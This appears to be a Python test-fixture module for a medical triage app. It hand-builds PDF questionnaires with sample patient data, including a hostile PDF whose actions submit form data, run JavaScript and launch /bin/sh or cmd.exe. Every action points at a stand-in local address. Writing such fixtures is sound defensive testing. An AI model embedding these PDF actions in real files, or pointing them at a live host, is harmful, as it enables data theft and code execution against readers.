"""PDF files as they may come from outside: written byte by byte, well or badly on purpose.

No library writes them, because a library would mend what is wrong with them.
"""

from __future__ import annotations

import zlib
from collections.abc import Mapping, Sequence

from triage_app.questionnaire import paper_fields

WHO: Mapping[str, str] = {
    paper_fields.FORM_ID: "vertebral_fracture",
    paper_fields.FORM_VERSION: "1",
    paper_fields.FORM_LANGUAGE: "en",
    paper_fields.FAMILY_NAME: "Okafor",
    paper_fields.GIVEN_NAME: "Ruth",
    paper_fields.BIRTH_DATE: "11 February 1954",
    paper_fields.SEX: "female",
    paper_fields.FILLED_ON: "20 Nov 2026",
}
NOWHERE = b"http://127.0.0.1:9/take"


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A file of these objects, numbered from 1; the first is its catalog."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for place in places:
        out += b"%010d 00000 n \n" % place
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


def stream(data: bytes, extra: bytes = b"", *, packed: int = 0) -> bytes:
    """A stream object; packed as many times as said."""
    for _ in range(packed):
        data = zlib.compress(data, 9)
    filters = b"/Filter [%s]" % (b" /FlateDecode" * packed) if packed else b""
    head = b"<< /Length %d %s %s >>" % (len(data), filters, extra)
    return b"%s\nstream\n%s\nendstream" % (head, data)


def text(value: str) -> bytes:
    """A text of a PDF."""
    escaped = value.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"(%s)" % escaped.encode("latin-1", "replace")


def field(name: str, value: bytes, extra: bytes = b"") -> bytes:
    """A field with a value as it stands in the file."""
    return b"<< /FT /Tx /T %s /V %s %s >>" % (text(name), value, extra)


def paper(
    fields: Mapping[str, str] = WHO,
    catalog: bytes = b"",
    field_extra: bytes = b"",
    others: Sequence[bytes] = (),
) -> bytes:
    """A filled questionnaire; `others` are objects from the number after the fields on."""
    made = [field(name, text(value), field_extra) for name, value in fields.items()]
    listed = b" ".join(b"%d 0 R" % (number + 3) for number in range(len(made)))
    head = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> %s >>" % (listed, catalog)
    return pdf([head, b"<< /Type /Pages /Kids [] /Count 0 >>", *made, *others])


def sending_paper() -> bytes:
    """A filled questionnaire that asks, in every way a PDF has, to reach out to somebody."""
    go = b"<< /S /URI /URI (%s) >>" % NOWHERE
    send = b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> /Flags 4 >>" % NOWHERE
    script = b"<< /S /JavaScript /JS (this.submitForm('%s'); app.launchURL('%s')) >>" % (
        NOWHERE,
        NOWHERE,
    )
    away = b"<< /S /GoToR /F << /FS /URL /F (%s) >> /D [0 /Fit] >>" % NOWHERE
    start = b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"
    first = len(WHO) + 3
    outside = b"<< /Length 0 /F << /FS /URL /F (%s) >> >>\nstream\n\nendstream" % NOWHERE
    return paper(
        catalog=b"/OpenAction %s /AA << /WC %s /WS %s >> /Names << /JavaScript << /Names "
        b"[(a) %s] >> >> /URI << /Base (%s) >> /XFA %d 0 R"
        % (go, send, away, script, NOWHERE, first),
        field_extra=b"/A %s /AA << /K %s /F %s /V %s >>" % (send, script, start, go),
        others=[outside],
    )
